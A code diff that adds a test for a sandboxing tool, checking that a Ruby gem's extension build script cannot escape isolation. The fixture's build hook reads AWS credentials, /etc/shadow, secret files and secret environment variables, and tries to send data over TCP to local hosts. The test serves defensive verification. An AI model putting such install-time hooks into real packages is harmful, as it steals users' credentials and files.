@@ -18,6 +18,8 @@ import { join } from "node:path";
 import { afterAll, beforeAll, expect, test } from "vitest";
 import { glovebox, linuxGap } from "../e2e/cli-fixture.ts";
 import { createLeftoverCheck, type LeftoverCheck } from "../helpers/leftovers.ts";
+import { findProgram } from "../helpers/find-program.ts";
+import { gemIndex } from "../helpers/registries/static-packages.ts";
 import { sourceDistribution } from "../helpers/registries/packages.ts";
 import { servePackages, type PackageRegistry } from "../helpers/registries/serve.ts";
 import { skipUnless } from "../helpers/require.ts";
@@ -64,6 +66,22 @@ print("FOUND", found, file=sys.stderr)
 if "${port}" != "0": raise SystemExit("FOUND %r" % (found,))
 `;
 
+/** The same of a gem, whose extension is built by code of its own. */
+const attackInRuby = (port: number): string => `
+require "socket"
+require "timeout"
+found = []
+["${home}/.aws/credentials", "${work}/secret.txt", "/etc/shadow", "../work", "/workspace/secret.txt"].each do |path|
+  found << [path, File.read(path)] rescue nil
+end
+Dir.children("${folder}").each { |each| found << each } rescue nil
+ENV.each { |key, value| found << value if key =~ /SECRET|GLOVEBOX/ }
+["127.0.0.1", "host.internal", "192.0.2.1"].each do |host|
+  Timeout.timeout(2) { TCPSocket.new(host, ${port}).write("stolen"); found << host } rescue nil
+end
+abort "FOUND #{found.inspect}"
+`;
+
 beforeAll(async () => {
   for (const each of [work, home, join(home, ".aws")]) mkdirSync(each);
   writeFileSync(join(home, ".aws/credentials"), "aws-key");
@@ -80,6 +98,13 @@ beforeAll(async () => {
       evil: { "evil-1.0.tar.gz": sourceDistribution("evil", "1.0", attack(port)) },
       quiet: { "quiet-1.0.tar.gz": sourceDistribution("quiet", "1.0", attack(0)) },
     },
+    files: gemIndex("/gem/", [
+      {
+        ...{ name: "evil", version: "1.0" },
+        files: { "ext/extconf.rb": attackInRuby(port), "lib/evil.rb": "" },
+        extensions: ["ext/extconf.rb"],
+      },
+    ]),
   });
 });
 afterAll(() => {
@@ -88,12 +113,13 @@ afterAll(() => {
   rmSync(folder, { recursive: true, force: true });
 });
 
-const run = (name: string, leftovers: LeftoverCheck) => {
+const run = (name: string, leftovers: LeftoverCheck, file = "main.py") => {
   writeFileSync(join(work, "requirements.txt"), `${name}==1.0\n`);
-  return glovebox(["run", "--network", "none", "--files", "none", "main.py"], {
+  return glovebox(["run", "--network", "none", "--files", "none", file], {
     cwd: work,
     env: {
       ...{ HOME: home, MY_SECRET: "env-secret", GLOVEBOX_REGISTRY_PIP: registry.pip },
+      GLOVEBOX_REGISTRY_GEM: `${registry.base}gem/`,
       XDG_CACHE_HOME: join(folder, "cache"),
       ...leftovers.env,
     },
@@ -111,6 +137,26 @@ test.skipIf(gap !== undefined)(
     expect(readdirSync(home)).toEqual([".aws"]);
     expect(readdirSync(work).sort()).toEqual(["main.py", "requirements.txt", "secret.txt"]);
     expect(existsSync(join(folder, "cache/glovebox/dependencies"))).toBe(false);
+    expect(await leftovers.find()).toEqual([]);
+  },
+  60_000,
+);
+
+const gemGap =
+  gap ?? skipUnless("packages", findProgram("bundle") ? undefined : "ruby-bundler is missing");
+
+test.skipIf(gemGap !== undefined)(
+  `nor does a gem that builds an extension ${gemGap ?? ""}`,
+  async () => {
+    const leftovers = await createLeftoverCheck();
+    const [gemfile, program] = [join(work, "Gemfile"), join(work, "main.rb")];
+    writeFileSync(gemfile, 'source "https://rubygems.org"\ngem "evil"\n');
+    writeFileSync(program, "puts 'ran'\n");
+    const told = await run("evil", leftovers, "main.rb");
+    for (const each of [gemfile, program]) rmSync(each);
+    expect(told).toMatchObject({ exitCode: 125, stdout: "" });
+    expect(told.stderr).toContain("FOUND []");
+    expect(called).toBe(0);
     expect(await leftovers.find()).toEqual([]);
   },
   60_000,
